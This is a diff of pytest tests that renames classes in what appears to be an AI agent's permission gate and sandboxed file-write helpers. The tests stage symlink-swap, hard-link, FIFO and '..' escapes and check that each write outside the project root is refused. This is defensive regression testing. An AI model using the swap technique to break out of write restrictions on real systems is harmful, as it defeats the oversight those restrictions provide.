     import asyncio
 
     call = ToolUseBlock(id="c", name="write_file", input={"path": path})
-    ctx = ToolContext(root=tree.root)
+    ctx = RunContext(root=tree.root)
     return asyncio.run(gate.check(call, TOOLS["write"], ctx)).outcome
 
 
 def test_symlink_swapped_at_last_component_is_not_followed(tmp_path: Path) -> None:
     t = _build(tmp_path)
-    gate = EngineGate(mode="acceptEdits", home=str(t.home))
+    gate = Gate(mode="acceptEdits", home=str(t.home))
     target = t.root / "src" / "report.txt"
     target.write_text("old")
     assert _check(gate, t, "src/report.txt") == "allow"
     resolved = os.path.realpath(target)
     target.unlink()
     os.symlink(t.out / "secret.txt", target)  # swapped in after the check
-    with pytest.raises(SandboxError):
+    with pytest.raises(UnsafeWriteError):
         atomic_write_within(resolved, "pwned", [t.root])
-    with pytest.raises(SandboxError):
+    with pytest.raises(UnsafeWriteError):
         os.close(safe_open_for_write(resolved, [t.root]))
     assert (t.out / "secret.txt").read_text() == "outside secret"
     assert _check(gate, t, "src/report.txt") == "ask"  # a fresh check sees the escape
@@ -485,7 +499,7 @@ def test_symlink_swapped_at_last_component_is_not_followed(tmp_path: Path) -> No
 
 def test_symlink_swapped_in_the_middle_is_not_followed(tmp_path: Path) -> None:
     t = _build(tmp_path)
-    gate = EngineGate(mode="bypassPermissions", home=str(t.home))
+    gate = Gate(mode="bypassPermissions", home=str(t.home))
     (t.root / "build").mkdir()
     assert _check(gate, t, "build/out.txt") == "allow"
     resolved = os.path.realpath(t.root / "build" / "out.txt")
@@ -495,7 +509,7 @@ def test_symlink_swapped_in_the_middle_is_not_followed(tmp_path: Path) -> None:
         lambda: atomic_write_within(resolved, "x", [t.root]),
         lambda: os.close(safe_open_for_write(resolved, [t.root])),
     ):
-        with pytest.raises(SandboxError):
+        with pytest.raises(UnsafeWriteError):
             write()
     assert not (t.out / "dir" / "out.txt").exists()
 
@@ -517,13 +531,13 @@ def test_safe_writes_work_for_ordinary_files(tmp_path: Path) -> None:
 
 def test_safe_writes_refuse_outside_hard_links_and_fifos(tmp_path: Path) -> None:
     t = _build(tmp_path)
-    with pytest.raises(SandboxError, match="outside"):
+    with pytest.raises(UnsafeWriteError, match="outside"):
         atomic_write_within(str(t.out / "x"), "x", [t.root])
-    with pytest.raises(SandboxError, match="hard links"):
+    with pytest.raises(UnsafeWriteError, match="hard links"):
         safe_open_for_write(str(t.root / "hard.txt"), [t.root])
-    with pytest.raises(SandboxError, match="regular file"):
+    with pytest.raises(UnsafeWriteError, match="regular file"):
         safe_open_for_write(str(t.root / "fifo"), [t.root])
-    with pytest.raises(SandboxError, match="resolved"):
+    with pytest.raises(UnsafeWriteError, match="resolved"):
         atomic_write_within(str(t.root / "src" / ".." / "x"), "x", [t.root])
     # The atomic write replaces the name: the other hard link keeps its content.
     atomic_write_within(str(t.root / "hard.txt"), "new", [t.root])
